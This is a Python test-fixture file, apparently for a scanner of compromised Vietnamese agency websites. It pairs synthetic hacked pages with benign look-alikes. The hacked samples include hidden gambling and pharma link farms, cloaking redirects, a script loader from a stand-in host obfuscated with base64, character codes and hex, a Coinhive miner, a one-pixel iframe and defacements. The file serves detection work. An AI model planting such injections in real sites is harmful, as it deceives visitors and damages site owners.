"""Pages that were taken over, and honest pages that look as if. Every agency, host and person is invented."""

import base64
from dataclasses import dataclass

# ruff: noqa: E501 - a page in one line reads as it came

HOST = "so.example"
MENU = "".join(f'<li><a href="/chuyen-muc/{n}">Chuyên mục {n}</a></li>' for n in range(12))
NEWS = "".join(
    f"<article><h3><a href='/tin/{n}'>{title}</a></h3><p>Sáng nay, Sở tổ chức hội nghị.</p></article>"
    for n, title in enumerate(
        (
            "Hội nghị tổng kết công tác năm",
            "Lịch tiếp công dân tháng 12",
            "Thông báo tuyển dụng viên chức",
            "Tập huấn chuyển đổi số cho cán bộ xã",
            "Công bố thủ tục hành chính mới",
        )
    )
)
FOOT = "<footer><p>Sở Mẫu. Chịu trách nhiệm: Nguyễn Văn A. Điện thoại: 0900 000 000</p></footer>"


@dataclass(frozen=True)
class Case:
    """One page and what a scan must make of it."""

    name: str
    html: str
    hits: str = ""  # the check that must fail; empty: none may


def site(body: str = "", *, head: str = "", title: str = "Sở Mẫu", after: str = "", lang: str = "vi") -> str:
    """An agency's home page with something in it."""
    return (
        f"<!DOCTYPE html><html lang='{lang}'><head><meta charset='utf-8'><title>{title}</title>{head}</head>"
        f"<body><ul>{MENU}</ul>{NEWS}{body}{FOOT}</body></html>{after}"
    )


def a(url: str, words: str) -> str:
    return f'<a href="{url}">{words}</a>'


def js(code: str) -> str:
    return f"<script>{code}</script>"


def codes(text: str) -> str:
    return ",".join(str(ord(sign)) for sign in text)


FARM = " ".join(
    a(f"https://{host}.example/", words)
    for host, words in (
        ("kubet77", "Kubet"),
        ("98win-top", "98win"),
        ("nhacaiuytin", "nhà cái uy tín"),
        ("gamebai9", "game bài đổi thưởng"),
    )
)
LOADER = "document.write('<script src=\"https://cdn-jquery-min.example/s.js\"></scr'+'ipt>')"
HEXED = "".join(f"\\x{ord(sign):02x}" for sign in "https://quay-hu.example/location/createElement")
SPAM, HIDDEN, SCRIPT = "compromise.gambling-spam", "compromise.hidden-links", "compromise.malicious-script"
LANGUAGE = "compromise.unexpected-language"
LEAVES, DEFACED, FRAME = "compromise.foreign-redirect", "compromise.defaced", "compromise.hidden-frame"

TAKEN_OVER = (
    Case(
        "a Japanese title over Vietnamese news",
        site(
            title="スーパーコピー 時計 通販 優良店",
            body="<p>Sáng nay, Sở tổ chức hội nghị tổng kết.</p>" * 12,
        ),
        LANGUAGE,
    ),
    Case(
        "Indonesian text on a page that says it is Vietnamese",
        "<html lang='vi'><title>Sở Mẫu</title>"
        + "<p>Selamat datang di situs resmi untuk anda yang ingin bermain dengan nyaman dan aman dari rumah.</p>"
        * 12,
        LANGUAGE,
    ),
    Case("links off screen", site(f'<div style="position:absolute;left:-9999px">{FARM}</div>'), SPAM),
    Case("links not displayed", site(f'<div style="display:none">{FARM}</div>'), SPAM),
    Case("links in letters of no size", site(f'<p style="font-size:0px">{FARM}</p>'), SPAM),
    Case(
        "links in the colour of the ground",
        site(f'<p style="color:#fff;background:#ffffff">{FARM}</p>'),
        SPAM,
    ),
    Case("links in a box of no height", site(f'<div style="height:0;overflow:hidden">{FARM}</div>'), SPAM),
    Case("links after the end of the page", site(after=FARM), SPAM),
    Case("links in noscript", site(f"<noscript>{FARM}</noscript>"), SPAM),
    Case("links in a marquee of one pixel", site(f'<marquee width="1" height="1">{FARM}</marquee>'), SPAM),
    Case("links below 300 elements", site("<div>" * 300 + FARM + "</div>" * 300), SPAM),
    Case(
        "links hidden by a rule of the page",
        site(f'<div class="xq7">{FARM}</div>', head="<style>.xq7{position:absolute;top:-5000px}</style>"),
        SPAM,
    ),
    Case("open list at the end", site(f"<p>{FARM}</p>"), SPAM),
    Case(
        "one open link without accents",
        site(a("https://trang-la.example/", "tai game bai doi thuong uy tin")),
        SPAM,
    ),
    Case("letters in disguise", site(a("https://trang-la.example/", "Nổ\u200b hũ đổi\u00a0thưởng")), SPAM),
    Case("accents taken apart", site(a("https://la.example/", "nha\u0300 ca\u0301i uy ti\u0301n")), SPAM),
    Case(
        "Chinese casino",
        site(f'<div style="display:none">{a("https://la.example/", "澳门新葡京娱乐 真人娱乐")}</div>'),
        SPAM,
    ),
    Case("Thai slots", site(a("https://la.example/", "สล็อตเว็บตรง แตกง่าย")), SPAM),
    Case("Indonesian slots", site(a("https://la.example/", "situs slot gacor maxwin")), SPAM),
    Case(
        "pharma",
        site(
            f'<div style="text-indent:-9999px;height:0;overflow:hidden">{a("https://la.example/", "buy viagra online")}</div>'
        ),
        SPAM,
    ),
    Case("Japanese fakes", site(a("https://la.example/", "ロレックスコピー 激安通販")), SPAM),
    Case(
        "telling host, harmless words",
        site(f'<p style="display:none">{a("https://nohu-taixiu.example/", "xem thêm")}</p>'),
        SPAM,
    ),
    Case(
        "words for search engines only",
        site(
            head='<meta name="description" content="Tải game bài đổi thưởng, nổ hũ đổi thưởng, nhà cái uy tín">'
        ),
        SPAM,
    ),
    Case(
        "pages of the site itself",
        site(
            "".join(
                a(f"/images/{n}/tai-xiu-online-uy-tin-{n}.html", f"Tài xỉu online uy tín {n}")
                for n in range(6)
            )
        ),
        SPAM,
    ),
    Case(
        "link to another agency taken over",
        site(a("https://xa.tinh.gov.vn/kubet", "Kubet nhà cái hàng đầu")),
        SPAM,
    ),
    Case(
        "contractor's farm without words",
        site(
            f'<div style="position:absolute;left:-9999px">{a("https://noi-that.example/", "nội thất đẹp")}</div>'
        ),
        HIDDEN,
    ),
    Case(
        "many strangers in a closed box",
        site(
            '<div style="display:none">'
            + "".join(a(f"https://s{n}shop{n}.example/", f"cửa hàng {n}") for n in range(9))
            + "</div>"
        ),
        HIDDEN,
    ),
    Case(
        "refresh to a casino",
        site(head='<meta http-equiv="refresh" content="0;url=https://fun88-vao.example/">'),
        SPAM,
    ),
    Case(
        "refresh to a stranger",
        site(head='<meta http-equiv="refresh" content="0; URL=\'https://la.example/\'">'),
        LEAVES,
    ),
    Case("script sends everybody away", site(js('window.location.href = "https://la.example/x";')), LEAVES),
    Case(
        "script sends searchers away",
        site(js('if(document.referrer.indexOf("google")>0){window.location="https://la.example/";}')),
        SCRIPT,
    ),
    Case("script in base64", site(js(f'eval(atob("{base64.b64encode(LOADER.encode()).decode()}"))')), SCRIPT),
    Case("script in character codes", site(js(f"eval(String.fromCharCode({codes(LOADER)}))")), SCRIPT),
    Case(
        "script in per cent signs",
        site(js(f"document.write(unescape('{''.join(f'%{ord(s):02x}' for s in LOADER)}'))")),
        SCRIPT,
    ),
    Case(
        "script of disguised names",
        site(js(f'var _0x1a2b=["{HEXED}"];' + "".join(f"_0x1a2b{n:01x}(_0x3c4d);" for n in range(12)))),
        SCRIPT,
    ),
    Case(
        "miner from outside", site('<script src="https://coinhive.com/lib/coinhive.min.js"></script>'), SCRIPT
    ),
    Case("miner inside", site(js("var m=new CoinHive.Anonymous('k');m.start();")), SCRIPT),
    Case("script of a casino", site('<script src="https://cdn.kubet-vip.example/ads.js"></script>'), SCRIPT),
    Case(
        "frame of one pixel",
        site('<iframe src="https://la.example/e.php" width="1" height="1"></iframe>'),
        FRAME,
    ),
    Case(
        "overwritten",
        "<html><head><title>Hacked By Nobody</title></head><body><h1>Hacked by Nobody</h1>greetz to all</body></html>",
        DEFACED,
    ),
    Case(
        "overwritten without a claim",
        "<html><title>...</title><body>We are Anonymous. We are legion. Expect us. Your security is low</body></html>",
        DEFACED,
    ),
)

POLICE = (
    "Công an tỉnh triệt phá đường dây đánh bạc qua mạng 98win, bắt giữ 12 đối tượng",
    "Cảnh báo: các trang cá độ bóng đá online, nổ hũ đổi thưởng đều là lừa đảo",
    "Khởi tố nhóm tổ chức đánh bạc bằng hình thức tài xỉu online",
)

CLEAN = (
    Case("ordinary", site()),
    Case(
        "police news on gambling, own pages", site("".join(a(f"/tin/{n}", t) for n, t in enumerate(POLICE)))
    ),
    Case(
        "police news, linked to a newspaper",
        site(
            "".join(
                a(f"https://bao{n}.example/triet-pha-duong-day-danh-bac-{n}", t) for n, t in enumerate(POLICE)
            )
        ),
    ),
    Case(
        "police news in a closed tab",
        site(
            '<div class="tab" style="display:none">'
            + "".join(a(f"/tin/{n}", t) for n, t in enumerate(POLICE))
            + "</div>"
        ),
    ),
    Case(
        "words of gambling in a text",
        site("<p>" + "Tài xỉu, nổ hũ, nhà cái, game bài đổi thưởng là tệ nạn. " * 30 + "</p>"),
    ),
    Case(
        "lottery results",
        site(
            a("https://xoso.example/xsmb", "Kết quả xổ số miền Bắc")
            + a("https://vietlott.example/", "Vietlott Jackpot")
            + a("https://xosomau.example/xsmn", "XSMN hôm nay, xổ số kiến thiết")
        ),
    ),
    Case(
        "state lottery company",
        site(
            a("https://xskt.example/", "Công ty xổ số kiến thiết tỉnh Mẫu")
            + a("/xo-so", "Dự đoán xổ số là trái phép")
        ),
    ),
    Case(
        "tourism with a casino resort",
        site(
            a("https://phoenix-casino.example/", "Phoenix Resort: casino, poker, golf")
            + "<p>Slot, roulette, jackpot</p>"
        ),
    ),
    Case(
        "tourism in Chinese",
        site(a("https://lvyou.example/", "旅游景点 酒店 美食 欢迎来到") + a("/zh", "中文")),
    ),
    Case(
        "the Chinese edition of a portal",
        site(
            title="旅游信息网", lang="zh", body="<p>欢迎来到我们的城市，这里有许多旅游景点和美食。</p>" * 30
        ),
    ),
    Case(
        "the English edition of a portal",
        site(title="Department of Tourism", lang="en", body="<p>Welcome to our city.</p>" * 40),
    ),
    Case("tourism in Thai", site(a("https://thai.example/", "ท่องเที่ยวเวียดนาม โรงแรม"), lang="th")),
    Case(
        "tourism in Korean and Japanese",
        site(a("https://kr.example/", "관광 안내") + a("https://jp.example/", "観光案内 日本語")),
    ),
    Case(
        "vendor's link in the footer",
        site("<p>" + a("https://phanmem.example/", "Thiết kế web bởi Công ty Phần mềm B") + "</p>"),
    ),
    Case(
        "a farm of partners in the open",
        site("".join(a(f"https://doitac{n}.example/", f"Công ty {n}") for n in range(30))),
    ),
    Case(
        "closed menu of the province's sites",
        site(
            '<ul style="display:none">'
            + "".join(a(f"https://so{n}.tinh.gov.vn/", f"Sở {n}") for n in range(20))
            + "</ul>"
        ),
    ),
    Case(
        "closed menu of enterprises",
        site(
            "<div hidden>"
            + "".join(a(f"https://congty{n}.com.vn/", f"Công ty {n}") for n in range(9))
            + "</div>"
        ),
    ),
    Case(
        "skip link off screen",
        site('<a style="position:absolute;left:-9999px" href="#main">Tới nội dung</a>'),
    ),
    Case(
        "share buttons by picture",
        site(
            '<div style="text-indent:-9999px">'
            + a("https://www.facebook.com/so", "Facebook")
            + a("https://zalo.me/1", "Zalo")
            + "</div>"
        ),
    ),
    Case(
        "counter in noscript",
        site(
            '<noscript><a href="https://dem-truy-cap.example/"><img src="https://dem.example/c.png" alt="counter"></a></noscript>'
        ),
    ),
    Case(
        "tag manager in noscript",
        site(
            '<noscript><iframe src="https://www.googletagmanager.com/ns.html?id=GTM-X" height="0" width="0" style="display:none"></iframe></noscript>'
        ),
    ),
    Case(
        "libraries from a CDN",
        site(
            '<script src="https://cdn.jsdelivr.net/npm/x.js"></script><script src="https://cdn.thu-vien.example/swiper.min.js"></script>'
        ),
    ),
    Case(
        "packed library in the page",
        site(
            js(
                "eval(function(p,a,c,k,e,d){return p}('0 1=2',3,3,'var|slide|jQuery|animate|fade'.split('|'),0,{}))"
            )
        ),
    ),
    Case("picture in base64", site(js(f"var i=atob('{base64.b64encode(bytes(range(90))).decode()}');"))),
    Case(
        "unescape of a harmless text",
        site(js("document.title=unescape('%53%1EDF%20%4D%1EABu%20%74%69%6E%20%74%1EE9%63');")),
    ),
    Case(
        "old analytics",
        site(
            js(
                'var gaJsHost=(("https:"==document.location.protocol)?"https://ssl.":"http://www.");document.write(unescape("%3Cscript src=\'" + gaJsHost + "google-analytics.com/ga.js\' type=\'text/javascript\'%3E%3C/script%3E"));'
            )
        ),
    ),
    Case(
        "mobile redirect of its own",
        site(js('if(/android|iphone/i.test(navigator.userAgent)){window.location="https://m.so.example/";}')),
    ),
    Case("refresh of itself", site(head='<meta http-equiv="refresh" content="300">')),
    Case(
        "refresh to the new portal",
        site(head='<meta http-equiv="refresh" content="0;url=https://tinh.gov.vn/so">'),
    ),
    Case("button to a partner", site(js('function di(){window.location="https://doitac.example/";}'))),
    Case(
        "video and map frames",
        site(
            '<iframe src="https://www.youtube.com/embed/x"></iframe><iframe src="https://www.google.com/maps/embed"></iframe>'
        ),
    ),
    Case("hidden frame of its own", site('<iframe src="/keepalive" style="display:none"></iframe>')),
    Case(
        "news on an attack",
        site(
            a("/tin/9", "Trang web bị hack: bài học và cách khắc phục")
            + "<p>Trang hiện chữ “Hacked by” trong vụ việc tấn công mạng.</p>" * 20
        ),
    ),
    Case(
        "drugs on recall",
        site(a("https://duoc.example/cv-1", "Thu hồi thuốc giả Viagra, Cialis, Sildenafil")),
    ),
    Case(
        "drug names of a hospital",
        site(
            "<p>Danh mục: Sildenafil, Tadalafil, Tramadol, Diazepam</p>"
            + a("https://duoc.example/", "Danh mục thuốc")
        ),
    ),
    Case(
        "official notice",
        site(a("https://bo.gov.vn/", "Danh sách trang cá cược, nhà cái, lô đề bị ngăn chặn")),
    ),
    Case(
        "slider of clear pictures",
        site('<div style="opacity:0">' + a("https://sukien.example/", "Lễ hội hoa 2026") + "</div>"),
    ),
    Case("credit after the end of the page", site(after=a("https://phanmem.example/", "Công ty Phần mềm B"))),
    Case(
        "loans of the policy bank",
        site(a("https://nganhangchinhsach.example/", "Vay vốn ưu đãi cho hộ nghèo")),
    ),
    Case(
        "hosts that hold letters of bad words",
        site(
            "".join(
                a(f"https://{h}.example/", "Đối tác")
                for h in ("technohub", "specialist", "gamebaihoc", "siriporn", "caccuocthi")
            )
        ),
    ),
    Case(
        "numbers of forms and roads",
        site(a("https://bieumau.example/m88", "Mẫu M88 và W88") + a("https://gt.example/", "Đường S666")),
    ),
    Case(
        "tax lottery",
        site(a("https://thue.example/hoa-don", "Hóa đơn may mắn: quay thưởng quý IV, giải Jackpot")),
    ),
    Case("football news", site(a("https://bao.example/the-thao", "Soi kèo bóng đá tối nay"))),
    Case(
        "chat of a vendor, written the old way",
        site(
            js(
                "document.write(unescape(\"%3Cscript src='https://chat-ho-tro.example/w.js' type='text/javascript'%3E%3C/script%3E\"));"
            )
        ),
    ),
    Case(
        "code that keeps brackets out of the page",
        site(
            js(
                r"var t='\x3Cscript src=\x22https://ban-do.example/m.js\x22\x3E\x3C\/script\x3E\x20\x20\x20\x20';document.write(t)"
            )
        ),
    ),
    Case(
        "phones to the app",
        site(
            js(
                'function mo(){if(/android/i.test(navigator.userAgent)){location.href="https://tai-app.example/";}}'
            )
        ),
    ),
)
